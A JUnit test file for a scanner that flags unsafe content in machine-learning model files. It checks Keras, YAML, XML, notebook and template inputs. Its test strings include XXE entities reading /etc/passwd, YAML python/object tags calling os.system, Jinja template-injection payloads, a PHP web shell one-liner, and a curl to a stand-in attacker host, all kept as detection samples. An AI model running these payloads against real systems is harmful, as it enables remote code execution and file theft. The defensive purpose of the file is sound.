package dev.sallyport.scan.text;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.scan.Examined;
import dev.sallyport.scan.Rule;
import java.nio.charset.StandardCharsets;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TextFilesTest {
    private static Set<Rule> rules(String text) {
        return Examined.rules(text, TextFiles::examine);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "# Model\n\n```python\nimport os\nos.system('ls')\n```\n",
                "numpy==1.2\ntorch>=2\n",
                "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"print(1)\"]}]}",
                "import\nexport\nlocal\nset\nrequire\n",
                "model: x\nshape: !!python/tuple [1, 2]\nbase: &b {a: 1}\nc: *b\n",
                "{\"model_type\": \"bert\", \"x\": NaN}",
                "{\"class_name\": \"Dense\", \"module\": \"keras.layers\", \"config\": {\"units\": 4}}",
                "{\"class_name\": \"TFOpLambda\", \"config\": {\"function\": \"math.multiply\"}}",
                "<?xml version=\"1.0\"?><PMML version=\"4.4\"><!-- <!ENTITY x SYSTEM 'y'> --><Header/></PMML>",
                "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg></svg>",
                "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}",
                "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
            })
    void harmless_texts_give_nothing(String text) {
        assertThat(rules(text)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "{\"class_name\": \"Lambda\", \"config\": {\"function\": [\"4wEAAA\", null, null]}} | KERAS_CODE",
                "{\"module\": \"os\", \"class_name\": \"function\", \"config\": \"system\", \"registered_name\": \"function\"} | KERAS_CODE",
                "{\"module\": \"keras.utils\", \"class_name\": \"function\", \"config\": \"get_file\"} | KERAS_CODE",
                "{\"class_name\": \"TFOpLambda\", \"config\": {\"function\": \"io.read_file\"}} | KERAS_CODE",
                "{\"class_name\": \"StringLookup\", \"config\": {\"vocabulary\": \"/etc/passwd\"}} | KERAS_CODE",
                "{\"module\": \"mine\", \"class_name\": \"Layer\", \"registered_name\": \"mine>Layer\"} | KERAS_FOREIGN",
                "{\"__class__\": \"system\", \"__module__\": \"os\", \"__loader__\": \"FunctionNode\"} | SKOPS_TYPE",
                "{\"auto_map\": {\"AutoModel\": \"modeling.Model\"}} | JSON_REMOTE_CODE",
                "{\"chat_template\": \"{{ ''.__class__.__mro__ }}\"} | TEMPLATE_CODE",
                "{\"a\": 1, \"a\": 2} | JSON_DUPLICATE",
                "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"!ls\"]}]} | CODE_NOTEBOOK",
                "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"os.system('id')\"]}]} | CODE_DANGEROUS",
                "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r> | XML_ENTITY",
                "<!DOCTYPE r SYSTEM 'http://evil.test/x.dtd'><r/> | XML_REFERENCE",
                "<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///x'/></r> | XML_REFERENCE",
                "a: !!python/object/apply:os.system [id] | YAML_TAG",
                "- !<tag:yaml.org,2002:python/object/new:os.system> [id] | YAML_TAG",
                "a: !!javax.script.ScriptEngineManager [1] | YAML_TAG",
                "import os; os.system('id') | CODE_DANGEROUS",
                "x = 1; import os | CODE_SCRIPT",
                "curl http://evil.test/x | CODE_SCRIPT",
                "<?php system($_GET['c']); | CODE_DANGEROUS",
                "{{ cycler.__init__.__globals__.os.popen('id').read() }} | TEMPLATE_CODE",
                "token: ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5 | SECRET_KEY"
            })
    void what_runs_or_hides_is_found(String text, Rule rule) {
        String whole = text.replace("; import", "\nimport");
        assertThat(rules(whole)).contains(rule);
        if (rule != Rule.CODE_SCRIPT) {
            assertThat(Examined.rules(whole.getBytes(StandardCharsets.UTF_16), TextFiles::examine))
                    .contains(rule);
        }
    }

    @Test
    void entities_behind_a_long_comment_are_found() {
        String document =
                "<!--" + "x".repeat(200_000) + "--><!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.test'> %x;]><r/>";
        assertThat(rules(document)).contains(Rule.XML_ENTITY);
    }

    @Test
    void json_of_any_depth_and_length_ends() {
        assertThat(rules("[".repeat(100_000))).isEmpty();
        assertThat(rules("{\"class_name\": \"Lambda\", \"a\": " + "[".repeat(100_000)))
                .contains(Rule.JSON_UNREADABLE);
    }
}
